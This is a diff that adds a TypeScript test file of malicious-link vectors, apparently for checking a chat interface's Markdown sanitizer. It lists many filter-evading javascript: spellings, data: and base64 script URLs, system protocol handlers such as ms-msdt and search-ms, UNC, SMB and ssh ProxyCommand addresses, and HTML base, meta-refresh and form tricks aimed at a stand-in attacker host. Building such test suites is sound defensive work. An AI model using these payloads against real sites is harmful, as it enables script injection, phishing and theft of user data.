@@ -1,0 +1,81 @@
+import { evil, run, vectors, type Vector } from './vector.ts';
+
+/** Ways to write an address that a browser reads as `javascript:` and a filter does not. */
+const spellings: Readonly<Record<string, string>> = {
+  plain: `javascript:${run}`,
+  'upper case': `JAVASCRIPT:${run}`,
+  'mixed case': `jAvAsCrIpT:${run}`,
+  'leading spaces': `  javascript:${run}`,
+  'leading control': `\u0001javascript:${run}`,
+  'tab inside': `java\tscript:${run}`,
+  'tab as an entity': `java&Tab;script:${run}`,
+  'newline as an entity': `java&NewLine;script:${run}`,
+  'colon as an entity': `javascript&colon;${run}`,
+  'decimal entities': `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)`,
+  'hex entities': `&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)`,
+  'padded entities': `&#0000106avascript:${run}`,
+  'percent encoded': `%6A%61%76%61%73%63%72%69%70%74:${run}`,
+  'percent encoded colon': `javascript%3A${run}`,
+  'escaped by backslash': `java\\script:${run}`,
+  'backslash before the colon': `javascript\\:${run}`,
+  'two slashes': `javascript://${evil}/%0a${run}`,
+  'a comment': `javascript:/**/${run}`,
+  'full-width colon': `javascript：${run}`,
+  'zero-width inside': `java\u200bscript:${run}`,
+  'soft hyphen inside': `java\u00adscript:${run}`,
+  'byte order mark': `\ufeffjavascript:${run}`,
+  vbscript: 'vbscript:msgbox(1)',
+  livescript: `livescript:${run}`,
+  mocha: `mocha:${run}`,
+  'data with HTML': `data:text/html,<script>${run}</script>`,
+  'data in base64': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data with SVG': `data:image/svg+xml,<svg onload="${run}"/>`,
+  'data with an image type that lies': `data:image/png,<script>${run}</script>`,
+  'data in upper case': `DATA:text/html,<script>${run}</script>`,
+  blob: `blob:https://${evil}/x`,
+  filesystem: `filesystem:https://${evil}/x`,
+  file: 'file:///etc/passwd',
+  'file of another host': `file://${evil}/share`,
+  'view-source': `view-source:javascript:${run}`,
+  about: 'about:blank',
+  chrome: 'chrome://settings',
+  'the app itself': 'app://shell/',
+  'a handler of the system': 'ms-msdt:/id PCWDiagnostic',
+  'a search of the system': `search-ms:query=x&crumb=location:%5C%5C${evil}`,
+  smb: `smb://${evil}/share`,
+  unc: `\\\\\\\\${evil}\\\\share`,
+  ssh: `ssh://-oProxyCommand=x@${evil}`,
+  steam: 'steam://run/1',
+  intent: `intent://${evil}#Intent;scheme=http;end`,
+  'no scheme': `//${evil}/x`,
+  'a path': '/chatkit',
+  'a parent': '../../shell/index.html',
+  'an anchor': '#x',
+  'a query': '?built-in=blocked',
+};
+
+const inline: Vector[] = vectors('link', Object.fromEntries(Object.entries(spellings).map(([name, address]) => [name, `[press me](${address.replaceAll(' ', '%20').replaceAll('(', '\\(').replaceAll(')', '\\)')})`])));
+const pointed: Vector[] = vectors('link in brackets', Object.fromEntries(Object.entries(spellings).map(([name, address]) => [name, `[press me](<${address.replace(/[<>\n]/g, '')}>)`])));
+const automatic: Vector[] = vectors('autolink', Object.fromEntries(Object.entries(spellings).map(([name, address]) => [name, `<${address.replace(/[<>\s]/g, '')}>`])));
+const raw: Vector[] = vectors('raw link', Object.fromEntries(Object.entries(spellings).map(([name, address]) => [name, `<a href="${address}">press me</a>`])));
+
+const others = vectors('link', {
+  'a password before the host': `[https://bank.example](https://bank.example@${evil}/)`,
+  'a password with a slash that is none': `[bank](https://bank.example%2F@${evil}/)`,
+  'backslashes for slashes': `[bank](https:\\\\${evil}\\@bank.example)`,
+  'an image as its text': `[![x](javascript:${run})](javascript:${run})`,
+  'a link inside a link': `[a [b](https://${evil}) c](javascript:${run})`,
+  'a target of its own': `[a](https://${evil}){target=_self onclick=${run}}`,
+  'a deeplink with markup': `[a](chatkit-link://x?y=<script>${run}</script>)`,
+  'a deeplink to a prototype': '[a](chatkit-link://__proto__?__proto__=x&constructor=y)',
+  'a mail with headers': '[a](mailto:a@b.example?bcc=c@d.example&body=x%0ay)',
+  'a very long address': `[a](https://${evil}/${'x'.repeat(20_000)})`,
+  'ping and download': `<a href="https://${evil}" ping="https://${evil}/p" download>x</a>`,
+  'a base': `<base href="https://${evil}/">\n\n[a](x)`,
+  'a refresh': `<meta http-equiv="refresh" content="0;url=https://${evil}/">`,
+  'a form': `<form action="https://${evil}"><input name=a><button>send</button></form>`,
+  'a button of a form': `<button formaction="javascript:${run}">x</button>`,
+  'an area': `<map name=m><area shape=default href="javascript:${run}"></map><img usemap=#m>`,
+});
+
+export const links = [...inline, ...pointed, ...automatic, ...raw, ...others];
